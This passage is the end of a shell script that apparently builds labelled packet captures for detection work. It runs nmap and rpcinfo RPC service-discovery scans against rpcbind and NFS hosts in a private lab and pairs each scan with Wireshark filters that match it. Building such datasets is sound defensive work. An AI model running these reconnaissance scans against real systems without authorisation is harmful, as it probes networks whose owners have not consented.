    run -t 120 nmap -n -Pn -sT -p 111 --script rpcinfo "10.203.$LAB_N.2-4"
    run -t 300 nmap -n -Pn -sT -sV --version-intensity 9 -p 2049 "$SRV"
    run rpcinfo -t "$SRV" 100099
    run rpcinfo -u "$SRV" 100299
    cap_end onc-probe "RPC service discovery (T1046) against rpcbind + nfs-ganesha (the server also answers on 10.203.$LAB_N.3 and .4): nmap -sT --script rpcinfo on 111 of .2-.4 (portmapper DUMP per host), nmap -sT -sV on 2049 (RPC grinder: NULL calls for program after program, PROG_UNAVAIL, then PROG_MISMATCH for nfs), rpcinfo -t / -u for unregistered programs 100099 and 100299." \
        'rpc.msgtyp == 0 && rpc.program == 100000 && rpc.procedure == 4' \
        "rpc.msgtyp == 0 && ip.dst == 10.203.$LAB_N.4" \
        'rpc.state_accept == 1'
}

for w in "${ORDERED[@]}"; do
    echo "attacks: attack-$w"
    "cap_${w//-/_}"
done
onc_down
dc_down
smb_down
total=$(du -cb "$OUT"/attack-*.pcap | tail -1 | cut -f1)
echo "attacks: done in $((SECONDS - T_START)) s; $(ls "$OUT"/attack-*.pcap | wc -l) captures, $total bytes; lab $LAB will be removed"
